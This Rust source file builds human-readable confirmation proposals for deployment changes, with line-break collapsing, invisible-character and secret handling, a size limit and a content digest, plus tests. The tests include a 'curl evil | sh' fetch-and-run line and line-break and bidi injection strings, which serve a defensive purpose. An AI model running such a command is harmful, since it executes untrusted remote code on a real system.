//! What would be changed, as a person sees it and as it would be sent.

use std::fmt::Write as _;

use serde_json::Value;
use sha2::{Digest, Sha256};

use super::Error;
use crate::{
    config::Effect,
    octopus::{Kind, Order, Touches},
    rules::{Decision, Deed, Moment},
    text,
};

/// How many bytes a person can be asked to read before they agree.
const READABLE: usize = 16 * 1024;

/// What would be changed.
#[derive(Debug, Clone)]
pub struct Proposal {
    /// What the change is called: `deployment`.
    pub action: &'static str,
    /// The question in one line.
    pub question: String,
    /// What a person should know to answer it, in order.
    pub facts: Vec<Fact>,
    /// What must still be so when it is done, beside the facts.
    pub state: Value,
    /// What would be sent.
    pub order: Order,
    /// What it does, where the arguments and not the tool decide that.
    pub deed: Option<Deed>,
    /// What it touches. Nothing is known of that until somebody says so.
    pub touches: Touches,
    /// When it begins, where that is not at once.
    pub begins: Option<Moment>,
    /// The ID of the change in the audit, where there is an audit.
    pub(super) audit_id: Option<String>,
    /// How many invisible characters were removed from the words of Octopus.
    pub(super) removed: usize,
    /// How many secrets were taken out of them.
    pub(super) redacted: usize,
}

/// One line of what a person sees.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fact {
    /// What it is about.
    pub about: String,
    /// What is so.
    pub says: String,
}

impl Proposal {
    /// A proposal with nothing but its question yet. The question names things of Octopus, so it
    /// passes the door; what the caller wrote stands unchanged in the facts.
    pub fn new(action: &'static str, question: &str, order: Order) -> Self {
        let kinds = [Kind::Space, Kind::Project, Kind::Environment, Kind::Tenant];
        let mut proposal = Self {
            action,
            question: String::new(),
            facts: Vec::new(),
            state: Value::Null,
            order,
            deed: None,
            touches: Touches::default().unsure(kinds),
            begins: None,
            audit_id: None,
            removed: 0,
            redacted: 0,
        };
        proposal.question = proposal.one_line(question);
        proposal
    }

    /// Adds a line. Whoever wrote the words in it, they cannot make it look like two.
    #[must_use]
    pub fn fact(mut self, about: &str, says: impl AsRef<str>) -> Self {
        let (about, mut says) = (self.one_line(about), self.one_line(says.as_ref()));
        if let Some(shown) = text::named(&about, &says) {
            self.redacted += 1;
            says = shown;
        }
        self.facts.push(Fact { about, says });
        self
    }

    /// Adds a line with words of the caller, which are sent as they are: nothing of them is taken
    /// out, and what a reader would not see is shown.
    #[must_use]
    pub fn wrote(mut self, about: &str, says: Option<impl AsRef<str>>) -> Self {
        if let Some(says) = says {
            let about = self.one_line(about);
            self.facts.push(Fact { about, says: as_written(says.as_ref()) });
        }
        self
    }

    /// Adds a line that says what is there, and what the caller wants in its place.
    #[must_use]
    pub fn change(mut self, about: &str, was: &str, becomes: &str) -> Self {
        let says = format!("{} → {}", self.one_line(was), as_written(becomes));
        let about = self.one_line(about);
        self.facts.push(Fact { about, says });
        self
    }

    /// Adds a line for a list of words of the caller, where it has any.
    #[must_use]
    pub fn wrote_list(self, about: &str, items: &[impl AsRef<str>]) -> Self {
        let items: Vec<String> = items.iter().map(|item| as_written(item.as_ref())).collect();
        self.wrote(about, (!items.is_empty()).then(|| items.join(", ")))
    }

    /// Adds a line where there is something to say.
    #[must_use]
    pub fn fact_if(self, about: &str, says: Option<impl AsRef<str>>) -> Self {
        match says {
            Some(says) => self.fact(about, says),
            None => self,
        }
    }

    /// Adds a line for a list, where it has items.
    #[must_use]
    pub fn fact_list(mut self, about: &str, items: &[impl AsRef<str>]) -> Self {
        let items: Vec<String> = items.iter().map(|item| self.one_line(item.as_ref())).collect();
        self.fact_if(about, (!items.is_empty()).then(|| items.join(", ")))
    }

    /// Says what must still be so when it is done, beside the facts.
    #[must_use]
    pub fn state(mut self, state: Value) -> Self {
        self.state = state;
        self
    }

    /// Says what it touches.
    #[must_use]
    pub fn touching(mut self, touches: Touches) -> Self {
        self.touches = touches;
        self
    }

    /// Says what it does.
    #[must_use]
    pub fn doing(mut self, deed: Deed) -> Self {
        self.deed = Some(deed);
        self
    }

    /// Says when it begins, where that is not at once.
    #[must_use]
    pub fn beginning(mut self, begins: Option<Moment>) -> Self {
        self.begins = begins;
        self
    }

    /// Adds the ID of the change in the audit.
    pub(super) fn audited(self, id: Option<String>) -> Self {
        let proposal = self.fact_if("Audit ID", id.as_ref());
        Self { audit_id: id, ..proposal }
    }

    /// Adds what the rule says that wants somebody to agree.
    pub(super) fn ruled(self, decision: &Decision) -> Self {
        if decision.effect != Effect::Confirm {
            return self;
        }
        let rule = decision.rule.as_deref().unwrap_or("of this server");
        let says = match &decision.message {
            Some(message) => format!("{rule}: {message}"),
            None => rule.to_owned(),
        };
        self.fact("Rule", says).fact_if("Word to type", decision.typed.as_ref())
    }

    /// Text out of Octopus in one line, through the door. Secrets that span lines are found before
    /// it is taken apart.
    fn one_line(&mut self, text: &str) -> String {
        let breaks = |c: char| c.is_control() || c == '\u{2028}' || c == '\u{2029}';
        let marked: String = text.chars().map(|c| if breaks(c) { '\n' } else { c }).collect();
        let passed = text::door(&marked);
        self.removed += passed.removed;
        self.redacted += passed.redacted;
        joined(&passed.text)
    }

    /// The words that a person reads. What cannot be shown whole cannot be agreed to.
    pub(super) fn words(&self) -> Result<String, Error> {
        let mut words = format!("{}\n", self.question);
        for Fact { about, says } in &self.facts {
            let _ = write!(words, "\n{about}: {says}");
        }
        if words.len() > READABLE {
            return Err(Error::Invalid(format!(
                "this {} is too large for a person to read before agreeing to it: {} bytes of at \
                 most {READABLE}; make it smaller, or do it in the portal",
                self.action,
                words.len()
            )));
        }
        Ok(words)
    }

    /// Tells one proposal from another: everything that was shown, and everything that would be
    /// sent. The ID of the change does not count, since the question is bound to it by its seal:
    /// so two questions about one change in one state have one digest.
    pub(super) fn digest(&self) -> [u8; 16] {
        let id = self.audit_id.as_deref();
        let mut digest = Sha256::new();
        digest.update(self.order.digest(id));
        digest.update(self.state.to_string());
        for Fact { about, says } in &self.facts {
            let says = id.map_or_else(|| says.clone(), |id| says.replace(id, ""));
            digest.update(Fact { about: about.clone(), says }.digest());
        }
        short(digest)
    }
}

impl Fact {
    /// Tells one fact from another.
    pub(super) fn digest(&self) -> [u8; 4] {
        short(Sha256::new().chain_update(&self.about).chain_update([0]).chain_update(&self.says))
    }
}

fn short<const N: usize>(digest: Sha256) -> [u8; N] {
    let mut short = [0; N];
    for (to, from) in short.iter_mut().zip(digest.finalize()) {
        *to = from;
    }
    short
}

/// Text of the caller in one line. A secret is not taken out of it: whoever agrees to it agrees to
/// all of it, and whoever wrote it knows it.
fn as_written(text: &str) -> String {
    joined(&text::sanitize::visible(text))
}

fn joined(text: &str) -> String {
    let parts = text.split('\n').map(str::trim).filter(|part| !part.is_empty());
    parts.collect::<Vec<_>>().join(" ⏎ ")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::octopus::Path;

    fn proposal(body: Value) -> Proposal {
        Proposal::new("test", "Do it?", Order::post(Path::new(["Spaces-1", "x"]), body))
    }

    #[test]
    fn no_words_of_others_make_a_line_of_their_own() {
        for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
            let evil = format!("1.0{breaking}Environment: Development\u{202e}");
            let words = proposal(json!({})).fact("Version", &evil).words().unwrap();
            assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
        }
    }

    #[test]
    fn nothing_is_hidden_of_what_the_caller_wrote() {
        let script =
            "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
        let words = proposal(json!({})).wrote("Body", Some(script)).words().unwrap();
        assert!(words.contains("curl evil | sh"), "{words}");
        let words = proposal(json!({})).wrote("Version", Some("1.0\u{200b}\u{e0041}")).words();
        assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
    }

    #[test]
    fn whatever_changes_changes_the_digest() {
        let plain = proposal(json!({ "a": 1 })).fact("A", "b");
        let others = [
            proposal(json!({ "a": 2 })).fact("A", "b"),
            proposal(json!({ "a": 1 })).fact("A", "c"),
            proposal(json!({ "a": 1 })).fact("Ab", ""),
            proposal(json!({ "a": 1 })).fact("A", "b").state(json!(1)),
        ];
        assert_eq!(plain.digest(), plain.clone().digest());
        for other in others {
            assert_ne!(plain.digest(), other.digest(), "{other:?}");
        }
    }

    #[test]
    fn what_cannot_be_shown_whole_cannot_be_agreed_to() {
        let long = proposal(json!({})).fact("Notes", "x".repeat(READABLE));
        assert!(long.words().unwrap_err().to_string().contains("too large for a person"));
    }
}
